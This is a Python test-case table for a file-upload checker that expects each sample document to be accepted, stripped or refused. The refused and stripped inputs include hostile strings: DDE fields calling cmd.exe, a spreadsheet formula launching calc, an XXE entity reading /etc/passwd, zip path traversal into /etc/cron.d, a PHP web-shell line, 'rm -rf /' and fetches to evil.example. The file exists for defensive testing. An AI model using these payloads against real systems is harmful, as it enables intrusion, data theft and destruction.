"""What people and attackers send, each with the verdict it must get and a word of the reason or of what is taken out."""

import zlib
from collections.abc import Callable
from dataclasses import dataclass
from functools import cache

from pikepdf import Array, Dictionary, Name, String

from tests.bureau import upload_makers as make
from tests.bureau.upload_makers import S, W, office, pdf, relations, zipped

ACCEPT, NEUTRALISE, REFUSE = "accept", "neutralise", "refuse"
MS = "http://schemas.microsoft.com/office"


@dataclass(frozen=True)
class Case:
    """`word` stands in a reason, or in the list of what is taken out; "" where there is nothing to say."""

    about: str
    name: str
    data: Callable[[], bytes]
    verdict: str
    word: str = ""
    true_type: str = ""

    def __str__(self) -> str:
        return self.about


def case(
    about: str, name: str, data: bytes | Callable[[], bytes], verdict: str, word: str = "", kind: str = ""
) -> Case:
    return Case(about, name, cache(data) if callable(data) else lambda: data, verdict, word, kind)


def content(inner: str) -> Callable[[], bytes]:
    return lambda: office(content=make.body(inner))


def linked(type: str, target: str = "http://evil.example/x", inner: str = "") -> Callable[[], bytes]:
    """A Word file with a relation to an address outside, and the element that uses it."""
    return lambda: office(content=make.body(inner), links=((type, target, "External"),))


def with_part(name: str, part: str | bytes, type: str = "image", kind: str = "docx") -> Callable[[], bytes]:
    """A package whose main part refers to one more part."""
    folder = make.MAIN[kind][0].rpartition("/")[0]
    return lambda: office(kind, {name: part}, links=((type, name.removeprefix(f"{folder}/")),))


def sheet(cells: str, more: dict | None = None, links: tuple = ()) -> Callable[[], bytes]:
    rows = f'<worksheet {S}><sheetData><row r="1">{cells}</row></sheetData></worksheet>'
    return lambda: office("xlsx", {"xl/worksheets/sheet1.xml": rows, **(more or {})}, links=links)


def named(change: dict) -> Callable[[], bytes]:
    """A PDF whose catalogue has these entries on top."""
    return lambda: pdf(lambda document: [document.Root.__setitem__(key, value) for key, value in change.items()])


def bomb_pdf() -> bytes:
    def change(document):
        swollen = document.make_stream(b"")
        swollen.write(zlib.compress(bytes(300 * 1024 * 1024), 9), filter=Name.FlateDecode)
        document.pages[0].obj.Contents = swollen

    return pdf(change)


def field(*codes: str) -> str:
    """A field whose code is cut into several runs, with a result."""
    runs = "".join(f"<w:r><w:instrText>{code}</w:instrText></w:r>" for code in codes)
    mark = '<w:r><w:fldChar w:fldCharType="{}"/></w:r>'
    return f"<w:p>{mark.format('begin')}{runs}{mark.format('separate')}<w:r><w:t>结果</w:t></w:r>{mark.format('end')}</w:p>"


EXTERNAL_BOOK = {
    "xl/externalLinks/externalLink1.xml": (
        f'<externalLink {S}><externalBook r:id="rId1"><sheetNames><sheetName val="名册"/></sheetNames><sheetDataSet><sheetData '
        'sheetId="0"><row r="1"><cell r="A1" t="str"><v>331002199001011234</v></cell></row></sheetData></sheetDataSet>'
        "</externalBook></externalLink>"
    ),
    "xl/externalLinks/_rels/externalLink1.xml.rels": relations(
        ("externalLinkPath", "file:///D:/zhangsan/a.xlsx", "External")
    ),
}
CONNECTIONS = (
    f'<connections {S}><connection id="1" name="q" type="5"><dbPr connection="Provider=x;Password=y" command="select"/>'
    "</connection></connections>"
)
AUTHORED = {
    "word/comments.xml": f'<w:comments {W}><w:comment w:id="0" w:author="张三" w:initials="ZS"><w:p/></w:comment></w:comments>'
}
REVISED = '<w:p><w:ins w:id="1" w:author="张三" w:date="2025-01-01T00:00:00Z"><w:r><w:t>增</w:t></w:r></w:ins></w:p>'
PLAIN_BOOK = office("xlsx")

HONEST = [
    case("a plain Word file", "通知.docx", office(), ACCEPT, kind="docx"),
    case("a plain workbook", "表.xlsx", PLAIN_BOOK, ACCEPT, kind="xlsx"),
    case("plain slides", "稿.pptx", office("pptx"), ACCEPT, kind="pptx"),
    case("a plain PDF", "通知.pdf", pdf(), ACCEPT, kind="pdf"),
    case("a PDF that is made for fast viewing", "通知.pdf", lambda: pdf(pages=3, linearize=True), ACCEPT),
    case(
        "a PDF that tells only its software",
        "通知.pdf",
        lambda: pdf(lambda d: d.docinfo.__setitem__("/Producer", "x")),
        ACCEPT,
    ),
    case("a plain OFD", "版式.ofd", make.ofd(), ACCEPT, kind="ofd"),
    case("a plain picture", "图.jpg", make.jpg(), ACCEPT, kind="jpg"),
    case("a picture with the longer ending", "图.JPEG", make.jpg(), ACCEPT, kind="jpg"),
    case("a plain PNG", "图.png", make.png(), ACCEPT, kind="png"),
    case("an old Word file", "文.doc", make.old("doc"), ACCEPT, kind="doc"),
    case("an old workbook", "表.xls", make.old("xls"), ACCEPT, kind="xls"),
    case("old slides", "稿.ppt", make.old("ppt"), ACCEPT, kind="ppt"),
    case("a text in UTF-8", "说明.txt", "说明\n".encode(), ACCEPT, kind="txt"),
    case("a text in GB 18030", "说明.txt", "说明\n".encode("gb18030"), ACCEPT, kind="txt"),
    case("a text that begins like a program", "说明.txt", "MZ 系列设备清单\n".encode(), ACCEPT, kind="txt"),
    case("a table with negative numbers and telephones", "表.csv", "户,-5,+86 576,-\n".encode(), ACCEPT, kind="csv"),
    case("a dot and a blank behind the name", "通知.pdf. ", pdf(), ACCEPT),
    case("a very long name", "长" * 300 + ".pdf", pdf(), ACCEPT),
    case("an ending that only looks double", "2026.3.18 报名表.doc.pdf", pdf(), ACCEPT),
    case(
        "a formula object",
        "题.docx",
        with_part("word/embeddings/o1.bin", make.compound({"Equation Native": b"x"}), "oleObject"),
        ACCEPT,
    ),
    case("a workbook behind a chart", "图.docx", with_part("word/embeddings/b.xlsx", PLAIN_BOOK, "package"), ACCEPT),
    case("links to pages", "通知.docx", linked("hyperlink", "https://www.zj.gov.cn/"), ACCEPT),
    case(
        "a part in UTF-16",
        "通知.docx",
        lambda: (
            office(content=make.BODIES["docx"].replace("UTF-8", "UTF-16"))
            and office(more={"word/document.xml": make.BODIES["docx"].replace("UTF-8", "UTF-16").encode("utf-16")})
        ),
        ACCEPT,
    ),
]

NEUTRALISED = [
    case("a Word file of a person", "通知.docx", lambda: make.word("张三"), NEUTRALISE, "作者、单位"),
    case("a workbook of a person", "表.xlsx", make.book, NEUTRALISE, "作者、单位"),
    case("revisions", "通知.docx", content(REVISED), NEUTRALISE, "作者姓名"),
    case(
        "comments",
        "通知.docx",
        lambda: office(more=AUTHORED, links=(("comments", "comments.xml"),)),
        NEUTRALISE,
        "作者姓名",
    ),
    case(
        "a template from outside",
        "通知.docx",
        lambda: office(
            more={
                "word/settings.xml": f'<w:settings {W}><w:attachedTemplate r:id="rId1"/></w:settings>',
                "word/_rels/settings.xml.rels": relations(
                    ("attachedTemplate", "http://evil.example/t.dotm", "External")
                ),
            },
            links=(("settings", "settings.xml"),),
        ),
        NEUTRALISE,
        "外部模板",
    ),
    case("a picture from outside", "通知.docx", linked("image"), NEUTRALISE, "外部链接"),
    case("an object from outside", "通知.docx", linked("oleObject"), NEUTRALISE, "外部链接"),
    case(
        "a link into the computer",
        "通知.docx",
        linked("hyperlink", "file:///D:/zhangsan/a.doc"),
        NEUTRALISE,
        "链接",
    ),
    case("a link to a shared folder", "通知.docx", linked("hyperlink", r"\\10.1.2.3\share"), NEUTRALISE, "链接"),
    case("a DDE field", "通知.docx", content(field(r"DDEAUTO c:\\windows\\cmd.exe")), NEUTRALISE, "域"),
    case("a DDE field in pieces", "通知.docx", content(field(" D", "DE ", "x")), NEUTRALISE, "域"),
    case(
        "a field in one element",
        "通知.docx",
        content('<w:fldSimple w:instr="DDEAUTO cmd"><w:r/></w:fldSimple>'),
        NEUTRALISE,
        "域",
    ),
    case(
        "a field that another field names",
        "通知.docx",
        content(
            '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>'
            + field("QUOTE 68 68 69")
            + '<w:r><w:instrText> cmd</w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
        ),
        NEUTRALISE,
        "域",
    ),
    case(
        "a picture in a text by its address",
        "通知.docx",
        content('<w:pict><v:i xmlns:v="v" src="http://evil.example/"/></w:pict>'),
        NEUTRALISE,
        "外部链接",
    ),
    case(
        "other workbooks",
        "表.xlsx",
        sheet(
            '<c r="A1"><f>[1]名册!A1</f><v>7</v></c>',
            EXTERNAL_BOOK,
            (("externalLink", "externalLinks/externalLink1.xml"),),
        ),
        NEUTRALISE,
        "其他工作簿",
    ),
    case(
        "a DDE formula", "表.xlsx", sheet("<c r=\"A1\"><f>cmd|'/c calc'!A0</f><v>7</v></c>"), NEUTRALISE, "其他工作簿"
    ),
    case(
        "a formula that fetches",
        "表.xlsx",
        sheet('<c r="A1"><f>WEBSERVICE("http://evil.example")</f><v>7</v></c>'),
        NEUTRALISE,
    ),
    case(
        "a data connection",
        "表.xlsx",
        with_part("xl/connections.xml", CONNECTIONS, "connections", "xlsx"),
        NEUTRALISE,
        "数据连接",
    ),
    case(
        "the folder of the file",
        "表.xlsx",
        lambda: office(
            "xlsx",
            content=make.BODIES["xlsx"].replace("<sheets>", '<x:absPath xmlns:x="x" url="D:\\zhangsan\\"/><sheets>'),
        ),
        NEUTRALISE,
        "位置",
    ),
    case(
        "a printer",
        "表.xlsx",
        sheet(
            "",
            {
                "xl/worksheets/_rels/sheet1.xml.rels": relations(("printerSettings", "../p.bin")),
                "xl/p.bin": b"\\\\server\\printer",
            },
        ),
        NEUTRALISE,
        "打印机",
    ),
    case(
        "a thumbnail",
        "通知.docx",
        lambda: office(
            more={"docProps/t.jpeg": make.jpg()},
            roots=((f"{make.PACKAGE}/relationships/metadata/thumbnail", "docProps/t.jpeg"),),
        ),
        NEUTRALISE,
        "缩略图",
    ),
    case(
        "own properties",
        "通知.docx",
        lambda: office(more={"docProps/custom.xml": "<p/>"}, roots=(("custom-properties", "docProps/custom.xml"),)),
        NEUTRALISE,
        "文档属性",
    ),
    case(
        "own data",
        "通知.docx",
        with_part("customXml/item1.xml", "<d>331002</d>", "customXml"),
        NEUTRALISE,
        "自定义数据",
    ),
    case(
        "a part that nothing leads to",
        "通知.docx",
        lambda: office(more={"word/secret.txt": "x"}),
        NEUTRALISE,
        "没有被引用",
    ),
    case("bytes behind the archive", "通知.docx", lambda: office() + b"secret" * 9, NEUTRALISE, "附加数据"),
    case(
        "an add-in",
        "通知.docx",
        lambda: office(
            more={"word/webextensions/t.xml": "<t/>"},
            roots=((f"{MS}/2011/relationships/webextensiontaskpanes", "word/webextensions/t.xml"),),
        ),
        NEUTRALISE,
        "加载项",
    ),
    case(
        "a shape that starts a program",
        "稿.pptx",
        lambda: office(
            "pptx",
            {
                "ppt/slides/slide1.xml": f'<p:sld {make.P}><a:hlinkClick xmlns:a="a" action="ppaction://program" r:id="rId1"/></p:sld>'
            },
            links=(("slide", "slides/slide1.xml"),),
        ),
        NEUTRALISE,
        "动作",
    ),
    case(
        "a photograph in a text", "通知.docx", with_part("word/media/a.jpeg", make.photograph()), NEUTRALISE, "拍摄信息"
    ),
    case(
        "a chart's workbook of a person",
        "图.docx",
        with_part("word/embeddings/b.xlsx", make.book(), "package"),
        NEUTRALISE,
        "作者、单位",
    ),
    case("a PDF of a person", "通知.pdf", lambda: pdf(make.with_author), NEUTRALISE, "文档属性"),
    case("a PDF with a script", "通知.pdf", lambda: pdf(make.with_script), NEUTRALISE, "脚本"),
    case("a PDF that starts a program", "通知.pdf", lambda: pdf(make.with_launch), NEUTRALISE, "脚本"),
    case(
        "a PDF with a script behind a tab",
        "通知.pdf",
        named({"/AA": Dictionary(WC=Dictionary(S=Name.JavaScript, JS=String("x")))}),
        NEUTRALISE,
        "脚本",
    ),
    case(
        "a PDF that opens a page by itself",
        "通知.pdf",
        named({"/OpenAction": Dictionary(S=Name.URI, URI=String("http://evil.example"))}),
        NEUTRALISE,
        "脚本",
    ),
    case("a PDF with a packed file", "通知.pdf", lambda: pdf(make.with_file), NEUTRALISE, "夹带的文件"),
    case("a PDF with comments", "通知.pdf", lambda: pdf(make.with_comment), NEUTRALISE, "作者姓名"),
    case("a PDF with a photograph", "通知.pdf", lambda: pdf(make.with_photograph), NEUTRALISE, "拍摄信息"),
    case(
        "a PDF with private data of its software",
        "通知.pdf",
        named({"/PieceInfo": Dictionary(A=1)}),
        NEUTRALISE,
        "私有数据",
    ),
    case("a PDF saved on top of itself", "通知.pdf", lambda: make.saved_again(pdf()), NEUTRALISE, "以前保存"),
    case("a PDF with more behind it", "通知.pdf", lambda: pdf() + b"\nsecret", NEUTRALISE, "附加数据"),
    case("a PDF that forbids copying", "通知.pdf", lambda: make.locked_pdf(""), NEUTRALISE, "限制"),
    case(
        "a page inside a picture", "图.jpg", lambda: make.with_remark(b"<html><script>x()</script>"), NEUTRALISE, "说明"
    ),
    case("a photograph with its place", "图.jpg", make.photograph(), NEUTRALISE, "拍摄位置"),
    case(
        "a photograph with a film behind it",
        "图.jpg",
        make.photograph(tail=b"\x00\x00\x00\x18ftypmp42" * 9),
        NEUTRALISE,
        "附加数据",
    ),
    case("a PNG of a person", "图.png", make.png("张三"), NEUTRALISE, "作者和说明"),
    case("an OFD of a person", "版式.ofd", make.ofd("<ofd:Author>张三</ofd:Author>"), NEUTRALISE, "文档属性"),
    case(
        "an OFD with a packed file",
        "版式.ofd",
        lambda: make.ofd(
            document="<ofd:Attachments>Attachs/A.xml</ofd:Attachments>",
            more={
                "Doc_0/Attachs/A.xml": '<o:Attachments xmlns:o="o"><o:FileLoc>a.txt</o:FileLoc></o:Attachments>',
                "Doc_0/Attachs/a.txt": "x",
            },
        ),
        NEUTRALISE,
        "夹带的文件",
    ),
    case(
        "an old Word file of a person",
        "文.doc",
        make.old("doc", {"\x05SummaryInformation": make.properties("张三")}),
        NEUTRALISE,
        "文档属性",
    ),
    case(
        "an old workbook with its last saver",
        "表.xls",
        lambda: make.compound({"Workbook": make.workbook_stream(make.record(0x5C, b"\x04\x00\x00Zhang".ljust(112)))}),
        NEUTRALISE,
        "保存人",
    ),
    case("a table that runs", "表.csv", "校,=cmd|'/c calc'!A0\n".encode(), NEUTRALISE, "公式"),
    case("a name that reads backwards", "报名表\u202efdp.pdf", pdf(), NEUTRALISE, "看不见的字符"),
]

WRONG_TYPES = [
    case("a PDF called docx", "通知.docx", pdf(), REFUSE, "PDF", "pdf"),
    case("a Word file called pdf", "通知.pdf", office(), REFUSE, "DOCX", "docx"),
    case("a workbook called docx", "通知.docx", office("xlsx"), REFUSE, "XLSX", "xlsx"),
    case("an old Word file called docx", "通知.docx", make.old("doc"), REFUSE, ".doc", "doc"),
    case("an old workbook called doc", "文.doc", make.old("xls"), REFUSE, "XLS", "xls"),
    case("an RTF called doc", "文.doc", b"{\\rtf1\\ansi}", REFUSE, "RTF", "rtf"),
    case("a page called xls", "表.xls", b"<html><table><tr><td>1</table>", REFUSE, "HTML", "html"),
    case("an archive called docx", "通知.docx", zipped({"a.txt": "x"}), REFUSE, "解压", "zip"),
    case(
        "an ODT called docx",
        "通知.docx",
        zipped({"mimetype": "application/vnd.oasis.opendocument.text"}),
        REFUSE,
        "ODT",
        "odt",
    ),
    case("a Java program called docx", "通知.docx", zipped({"META-INF/MANIFEST.MF": "x"}), REFUSE, "Java", "jar"),
    case(
        "a photograph of an Apple telephone", "图.jpg", b"\x00\x00\x00\x18ftypheic" + bytes(20), REFUSE, "HEIC", "heic"
    ),
    case("a picture of the web", "图.jpg", b"RIFF\x10\x00\x00\x00WEBPVP8 ", REFUSE, "WebP", "webp"),
    case("a PNG called jpg", "图.jpg", make.png(), REFUSE, ".png", "png"),
    case("a program called pdf", "通知.pdf", b"MZ\x90\x00" + bytes(60), REFUSE, "程序", "exe"),
    case("a program of Linux", "说明.txt", b"\x7fELF\x02\x01", REFUSE, "程序", "elf"),
    case("a short cut", "说明.txt", b"L\x00\x00\x00\x01\x14\x02\x00", REFUSE, "快捷方式", "lnk"),
    case("a page called txt", "说明.txt", "\ufeff \n<HTML><body>".encode(), REFUSE, "网页", "html"),
    case("a page with a remark before it", "说明.txt", b"<!-- x --><script>x()</script>", REFUSE, "网页", "html"),
    case("a drawing that can run", "说明.txt", b'<?xml version="1.0"?><svg onload="x()"/>', REFUSE, "SVG", "svg"),
    case("a script called txt", "说明.txt", b"#!/bin/sh\nrm -rf /\n", REFUSE, "脚本", "script"),
    case("a page of PHP", "说明.csv", b"<?php system($_GET[1]);", REFUSE, "脚本", "script"),
    case("a text in UTF-16", "说明.txt", "说明".encode("utf-16"), REFUSE, "UTF-8", "utf16"),
    case("bytes without meaning", "说明.txt", b"a\x00b\x01", REFUSE, "另存", "unknown"),
    case(
        "the sign of virus filters",
        "说明.txt",
        b"X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*",
        REFUSE,
        "病毒",
        "virus",
    ),
    case("a page before a PDF", "通知.pdf", b"<html><script>x()</script>" + pdf(), REFUSE, "网页", "html"),
]

WRONG_NAMES = [
    case("a program behind a PDF's name", "报名表.pdf.exe", b"MZ\x90\x00", REFUSE, "后缀是EXE"),
    case("a program before a PDF's ending", "报名表.exe.pdf", pdf(), REFUSE, "程序的后缀"),
    case("a program that reads like a PDF", "报名表\u202efdp.exe", b"MZ\x90\x00", REFUSE, "后缀是EXE"),
    case("a NUL that hides the ending", "报名表.exe\x00.pdf", pdf(), REFUSE, "程序的后缀"),
    case("no ending", "通知", pdf(), REFUSE, "通知.pdf", "pdf"),
    case("an archive", "材料.zip", zipped({"a": "x"}), REFUSE, "解压"),
    case("a macro file by its own name", "表.xlsm", office("xlsx"), REFUSE, "另存为 XLSX"),
    case("a drawing", "图.svg", b"<svg/>", REFUSE, "导出为 PNG"),
    case("a short cut by its name", "报名表.pdf.lnk", b"L\x00\x00\x00\x01\x14\x02\x00", REFUSE, "快捷方式不能上传"),
    case("a batch file", "批处理.bat", b"@echo off\r\ndel *", REFUSE, "后缀是BAT"),
    case("a script", "脚本.js", b"alert(1)", REFUSE, "后缀是JS"),
    case("a page", "网页.html", b"<html>", REFUSE, "另存为 PDF"),
    case("a Word file with macros by its own name", "文.docm", office(), REFUSE, "去掉宏"),
    case("a template with macros by its own name", "文.dotm", office(), REFUSE, "去掉宏"),
    case("a program with a blank before the ending", "报名表.exe .pdf", pdf(), REFUSE, "程序的后缀"),
    case("a program with an escaped NUL", "报名表.exe%00.pdf", pdf(), REFUSE, "程序的后缀"),
    case("an ending with a hidden character", "通知.p\u200bdf", b"MZ\x90\x00", REFUSE, "程序", "exe"),
    case("an ending of a thousand letters", f"通知.{'x' * 1000}", pdf(), REFUSE, "可以传"),
    case("a text program's own kind", "文.wps", make.old("doc"), REFUSE, "另存为 DOCX"),
]

HARMFUL = [
    case("nothing", "通知.pdf", b"", REFUSE, "空文件"),
    case(
        "a macro",
        "通知.docx",
        with_part("word/vbaProject.bin", b"x", f"{MS}/2006/relationships/vbaProject"),
        REFUSE,
        "宏",
    ),
    case(
        "a macro under another name",
        "通知.docx",
        with_part("word/media/a.dat", make.compound({"VBA/_VBA_PROJECT": b"x"})),
        REFUSE,
        "宏",
    ),
    case(
        "a macro by its type",
        "通知.docx",
        lambda: office(types='<Override PartName="/word/x.bin" ContentType="application/vnd.ms-office.vbaProject"/>'),
        REFUSE,
        "宏",
    ),
    case(
        "a macro file called docx",
        "通知.docx",
        lambda: make.macro_types("docx", "vnd.ms-word.document.macroEnabled.main+xml"),
        REFUSE,
        "宏",
        "docm",
    ),
    case(
        "a macro workbook called xlsx",
        "表.xlsx",
        lambda: make.macro_types("xlsx", "vnd.ms-excel.sheet.macroEnabled.main+xml"),
        REFUSE,
        "宏",
        "xlsm",
    ),
    case(
        "a macro sheet of old Excel",
        "表.xlsx",
        with_part("xl/macrosheets/sheet1.xml", f"<macrosheet {S}/>", "worksheet", "xlsx"),
        REFUSE,
        "宏",
    ),
    case("a macro in an old Word file", "文.doc", make.old("doc", {"Macros/_VBA_PROJECT": b"x"}), REFUSE, "宏"),
    case("a macro in an old workbook", "表.xls", make.old("xls", {"_VBA_PROJECT_CUR/PROJECT": b"x"}), REFUSE, "宏"),
    case(
        "a macro sheet in an old workbook",
        "表.xls",
        lambda: make.compound({"Workbook": make.workbook_stream(make.record(0x85, bytes(4) + b"\x02\x01\x01\x00X"))}),
        REFUSE,
        "宏工作表",
    ),
    case(
        "a macro in old slides",
        "稿.ppt",
        lambda: make.compound(
            {
                "PowerPoint Document": b"\x02\x00\x00\x04\x0c\x00\x00\x00"
                + bytes(4)
                + b"\x01\x00\x00\x00\x02\x00\x00\x00"
            }
        ),
        REFUSE,
        "宏",
    ),
    case(
        "a macro in the workbook behind a chart",
        "图.docx",
        with_part(
            "word/embeddings/b.xlsx", make.macro_types("xlsx", "vnd.ms-excel.sheet.macroEnabled.main+xml"), "package"
        ),
        REFUSE,
        "宏",
    ),
    case("a control", "表.docx", with_part("word/activeX/activeX1.bin", b"x", "control"), REFUSE, "ActiveX"),
    case("a program inside", "通知.docx", with_part("word/media/a.png", b"MZ\x90\x00"), REFUSE, "程序"),
    case("a script inside", "通知.docx", with_part("word/media/a.js", b"x()"), REFUSE, "a.js"),
    case(
        "a packed file inside",
        "通知.docx",
        with_part("word/embeddings/o.bin", make.compound({"\x01Ole10Native": b"x"}), "oleObject"),
        REFUSE,
        "打包对象",
    ),
    case(
        "a packed file in an old one",
        "文.doc",
        make.old("doc", {"ObjectPool/\x01Ole10Native": b"x"}),
        REFUSE,
        "打包对象",
    ),
    case("a PDF inside", "通知.docx", with_part("word/embeddings/o.bin", pdf(), "oleObject"), REFUSE, "PDF"),
    case("an archive inside", "通知.docx", with_part("word/media/a.zip", zipped({"a": "x"})), REFUSE, "压缩包"),
    case("foreign content", "通知.docx", with_part("word/a.xml", "<a/>", "aFChunk"), REFUSE, "altChunk"),
    case(
        "an entity",
        "通知.docx",
        lambda: office(content='<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>'),
        REFUSE,
        "DTD",
    ),
    case(
        "entities that swell",
        "表.xlsx",
        lambda: office("xlsx", {"xl/styles.xml": '<!DOCTYPE a [<!ENTITY b "bb"><!ENTITY c "&b;&b;">]><a>&c;</a>'}),
        REFUSE,
        "DTD",
    ),
    case(
        "an entity in an OFD",
        "版式.ofd",
        lambda: make.ofd(more={"Doc_0/Res.xml": '<!DOCTYPE a SYSTEM "x"><a/>'}),
        REFUSE,
        "DTD",
    ),
    case("a text cut off", "通知.docx", lambda: office(content="<w:document><w:body>"), REFUSE, "损坏"),
    case("a bomb", "通知.docx", make.bomb, REFUSE, "膨胀"),
    case("a smaller bomb", "通知.docx", lambda: make.bomb(size=40 * 1024 * 1024), REFUSE, "膨胀"),
    case("a directory that lies", "通知.docx", make.lying, REFUSE, "膨胀"),
    case("members on top of each other", "通知.docx", make.overlapping, REFUSE, "膨胀"),
    case(
        "more entries than anybody needs",
        "通知.docx",
        lambda: zipped({f"word/{n}.xml": "" for n in range(12_000)}),
        REFUSE,
        "超过10000个",
    ),
    case("a name that climbs", "通知.docx", lambda: office(more={"../../etc/cron.d/x": "x"}), REFUSE, "之外"),
    case("a name that climbs backwards", "通知.docx", lambda: office(more={"word\\..\\..\\x": "x"}), REFUSE, "之外"),
    case("a name from the root", "通知.docx", lambda: office(more={"/etc/passwd": "x"}), REFUSE, "之外"),
    case("a name with a drive", "通知.docx", lambda: office(more={"C:/x": "x"}), REFUSE, "之外"),
    case("a link", "通知.docx", make.with_link, REFUSE, "符号链接"),
    case("the same name twice", "通知.docx", make.twice, REFUSE, "同名"),
    case("the same name in capitals", "通知.docx", lambda: office(more={"WORD/document.xml": "<a/>"}), REFUSE, "同名"),
    case(
        "a name that differs inside",
        "通知.docx",
        lambda: office().replace(b"word/document.xml", b"word/documenT.xml", 1),
        REFUSE,
        "损坏",
    ),
    case("locked members", "通知.docx", make.locked_zip, REFUSE, "密码"),
    case(
        "a locked Word file",
        "通知.docx",
        make.compound({"EncryptedPackage": b"x", "EncryptionInfo": b"x"}),
        REFUSE,
        "密码",
        "office-encrypted",
    ),
    case(
        "a locked old Word file",
        "文.doc",
        make.compound({"WordDocument": make.word_stream(locked=True)}),
        REFUSE,
        "密码",
    ),
    case(
        "a locked old workbook",
        "表.xls",
        make.compound({"Workbook": make.workbook_stream(make.record(0x2F, bytes(6)))}),
        REFUSE,
        "密码",
    ),
    case("locked old slides", "稿.ppt", make.old("ppt", {"EncryptedSummary": b"x"}), REFUSE, "密码"),
    case("half an archive", "通知.docx", lambda: make.word("a")[:9000], REFUSE, "截断"),
    case("no archive at all", "通知.docx", b"not a zip", REFUSE, "DOCX"),
    case("half an old file", "文.doc", make.old("doc")[:700], REFUSE, "截断"),
    case("a locked PDF", "通知.pdf", lambda: make.locked_pdf("secret"), REFUSE, "密码"),
    case("half a PDF", "通知.pdf", lambda: pdf(pages=9)[:2000], REFUSE, "截断"),
    case("half of a PDF for fast viewing", "通知.pdf", lambda: pdf(pages=9, linearize=True)[:3000], REFUSE, "截断"),
    case("a PDF of nothing", "通知.pdf", b"%PDF-1.7\n%%EOF\n", REFUSE, "截断"),
    case("a PDF that swells", "通知.pdf", bomb_pdf, REFUSE, "膨胀"),
    case("a PDF that is a folder", "通知.pdf", named({"/Collection": Dictionary()}), REFUSE, "分别上传"),
    case(
        "a form that draws itself",
        "表.pdf",
        named({"/NeedsRendering": True, "/AcroForm": Dictionary(XFA=Array([]))}),
        REFUSE,
        "XFA",
    ),
    case("an archive behind a PDF", "通知.pdf", lambda: pdf() + zipped({"a": "x"}), REFUSE, "另一个文件"),
    case(
        "an archive behind a PDF with an end mark behind it",
        "通知.pdf",
        lambda: pdf() + zipped({"a": "x"}) + b"%%EOF\n",
        REFUSE,
        "另一个文件",
    ),
    case(
        "an archive behind a PDF with a whole end behind it",
        "通知.pdf",
        lambda: pdf() + zipped({"a": "x"}) + pdf()[pdf().rfind(b"startxref") :],
        REFUSE,
        "另一个文件",
    ),
    case(
        "an archive inside a picture", "图.jpg", lambda: make.with_remark(zipped({"a.html": "x"})), REFUSE, "另一个文件"
    ),
    case("a PDF behind a Word file", "通知.docx", lambda: office() + pdf(), REFUSE, "另一个文件"),
    case(
        "a program behind a workbook", "表.xlsx", lambda: PLAIN_BOOK + b"MZ\x90\x00" + bytes(60), REFUSE, "另一个文件"
    ),
    case("a page behind an OFD", "版式.ofd", lambda: make.ofd() + b"<html><script>x()</script>", REFUSE, "另一个文件"),
    case("a PDF behind a picture", "图.jpg", lambda: make.jpg() + pdf(), REFUSE, "另一个文件"),
    case("a program behind a picture", "图.png", lambda: make.png(tail=b"MZ\x90\x00"), REFUSE, "另一个文件"),
    case(
        "a field that starts a program in an old Word file",
        "文.doc",
        make.compound({"WordDocument": make.word_stream() + b"\x13 DDEAUTO c:\\cmd.exe\x14x\x15"}),
        REFUSE,
        "DDE",
    ),
    case(
        "the same in two bytes a letter",
        "文.doc",
        make.compound({"WordDocument": make.word_stream() + "\x13DDE cmd\x14x\x15".encode("utf-16-le")}),
        REFUSE,
        "DDE",
    ),
    case(
        "an old workbook that several people share",
        "表.xls",
        make.old("xls", {"Revision Log": b"x", "User Names": b"x"}),
        REFUSE,
        "共享工作簿",
    ),
    case(
        "a signed PDF with a script",
        "通知.pdf",
        lambda: pdf(lambda d: (make.with_signature(d), make.with_script(d))),
        REFUSE,
        "签名",
    ),
    case("an archive behind a picture", "图.jpg", make.jpg() + zipped({"a": "x"}), REFUSE, "另一个文件"),
    case("a script behind a picture", "图.png", make.png(tail=b"<script>x()</script>"), REFUSE, "另一个文件"),
    case("half a picture", "图.jpg", make.photograph()[:-200], REFUSE, "不完整"),
    case("half a PNG", "图.png", make.png()[:60], REFUSE, "不完整"),
    case("900 million pixels", "图.png", make.vast_png(), REFUSE, "像素"),
    case("900 million pixels inside", "通知.docx", with_part("word/media/a.png", make.vast_png()), REFUSE, "像素"),
    case("an OFD without a document", "版式.ofd", zipped({"OFD.xml": "<ofd/>"}), REFUSE, "OFD"),
    case(
        "an OFD that leads nowhere",
        "版式.ofd",
        lambda: make.renamed(make.ofd(), b"Doc_0/Document.xml", b"Doc_1/Document.xml"),
        REFUSE,
    ),
    case("a program in an OFD", "版式.ofd", lambda: make.ofd(more={"Doc_0/Res/a.exe": b"MZ"}), REFUSE, "程序"),
]

SIGNED = [
    case("a signed PDF of a person", "通知.pdf", lambda: pdf(make.with_signature), ACCEPT, "签名"),
    case(
        "a signed OFD of a person",
        "版式.ofd",
        lambda: make.ofd("<ofd:Author>张三</ofd:Author>", top="<ofd:Signatures>Signs/S.xml</ofd:Signatures>"),
        ACCEPT,
        "签名",
    ),
    case(
        "a signed Word file of a person",
        "通知.docx",
        lambda: office(
            more={**AUTHORED, "_xmlsignatures/sig1.xml": "<s/>"},
            links=(("comments", "comments.xml"),),
            roots=((f"{make.PACKAGE}/relationships/digital-signature/origin", "_xmlsignatures/sig1.xml"),),
        ),
        ACCEPT,
        "签名",
    ),
]

CASES = [*HONEST, *NEUTRALISED, *WRONG_TYPES, *WRONG_NAMES, *HARMFUL, *SIGNED]
